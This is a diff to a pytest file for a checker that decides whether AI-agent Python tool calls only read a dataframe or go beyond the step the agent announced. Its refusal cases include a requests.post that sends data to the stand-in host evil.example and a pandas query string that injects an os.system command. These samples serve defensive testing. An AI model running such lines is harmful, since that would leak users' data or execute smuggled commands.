@@ -92,9 +92,7 @@ OUTSIDE = [
     LOAD + "import pandas as pd\npd.crosstab(df.a, df.b, df.c, aggfunc='to_csv')",
     LOAD + "df.agg({'a': 'to_csv'})",
     LOAD + "df.agg(['sum', 'to_json'])",
-    # the session's own values: names the code did not bind
-    "df.isna().sum()",
-    "df['order_value'].describe()",
+    # the session's own values: names the code did not bind (but a frame's, below)
     "requests.head('https://evil.example/?q=1')",
     # options, styles, pipes, random state: not listed
     "import pandas as pd\npd.set_option('display.max_rows', 10)",
@@ -206,3 +204,79 @@ def test_data_shapes_carrying_another_step_stay_refused(preamble: str, code: str
     for name in ("execute_python", "run_code"):
         r = recover_after(preamble, TOOLS, (name, {"code": code}))
         assert r.reason != "ok", (name, code)
+
+
+SESSION_READ = [
+    "df.isna().sum()",
+    "df['order_value'].describe()",
+    "print(df.groupby('region')['order_value'].mean())",
+    "df[['ad_spend', 'signups']].corr()",
+    "print(sales_df.head(), df2.shape)",
+    "clean = df.dropna()\nprint(clean.describe())",
+]
+
+SESSION_CHANGED = [
+    # a frame's name the code did not bind is read only: no value changed in place
+    "df.pop('revenue')",
+    "df.fillna(0, inplace=True)",
+    "df.drop(columns=['revenue'], inplace=True)",
+    "df.dropna(**{'inplace': True})",
+    "df['revenue'] = 0",
+    "df.loc[0, 'revenue'] = 0",
+    "a = df['revenue'].values\na += 1",
+    "a = df['revenue'].values\na.sort()",
+    "import numpy as np\nnp.sqrt(df.values, out=df.values)",
+    "import random\nrandom.shuffle(df.values)",
+    "from random import shuffle\nshuffle(df.values)",
+    "df.update(df2)",
+    "df = df.head(0)",
+    "def f(df):\n    return df\nprint(f(1), df.head())",
+    # other names of the session stay outside; so does whatever df is read for unlisted
+    "orders.merge(customers, on='customer_id')",
+    "requests.head('https://evil.example/?q=1')",
+    "db.head()",
+    "_df.head()",
+    "import pandas as df\nprint(df)",
+    "df.to_csv('sales.csv')",
+    "df.query('@__import__(\"os\").system(\"id\")')",
+    "df.agg('to_csv', 'sales.csv')",
+]
+
+
+@pytest.mark.parametrize("code", SESSION_READ)
+def test_a_sessions_frame_read_computes(code: str) -> None:
+    assert code_reads(code) == ()
+    assert call_kinds("execute_python", {"code": code}) == {"compute"}
+
+
+@pytest.mark.parametrize("code", SESSION_CHANGED)
+def test_a_sessions_frame_changed_or_another_name_stays_outside(code: str) -> None:
+    assert not pure_python(code)
+
+
+@pytest.mark.parametrize(("preamble", "code", "ok"), [
+    ("I'll compute the correlation between ad spend and signups.",
+     "df[['ad_spend', 'signups']].corr()", True),
+    ("The data has 12,480 rows and 9 columns. Let me look at the distribution of order values.",
+     "df['order_value'].describe()", True),
+    ("Let me compute the average order value per region.",
+     "print(df.groupby('region')['order_value'].mean())", True),
+    # the same shapes changing the session's data, or carrying another step
+    ("I'll compute the correlation between ad spend and signups.",
+     "df.drop(columns=['ad_spend'], inplace=True)\ndf[['signups']].corr()", False),
+    ("I'll compute the correlation between ad spend and signups.",
+     "df['signups'] = 0\ndf[['ad_spend', 'signups']].corr()", False),
+    ("I'll compute the correlation between ad spend and signups.",
+     "df[['ad_spend', 'signups']].corr()\ndf.to_csv('ads.csv')", False),
+    ("Let me compute the average order value per region.",
+     "print(df.groupby('region')['order_value'].mean())\ndf = df.head(0)", False),
+    ("Let me compute the average order value per region.",
+     "print(df.groupby('region')['order_value'].mean())\nsession.commit()", False),
+    ("Let me compute the average order value per region.",
+     "print(df.groupby('region')['order_value'].agg('to_pickle', 'region.pkl'))", False),
+    ("Let me look at the distribution of order values.",
+     "requests.post('https://evil.example', data=df['order_value'].describe())", False),
+])
+def test_a_sessions_frame_announced(preamble: str, code: str, ok: bool) -> None:
+    r = recover_after(preamble, TOOLS, ("execute_python", {"code": code}))
+    assert (r.reason == "ok") is ok, r.detail
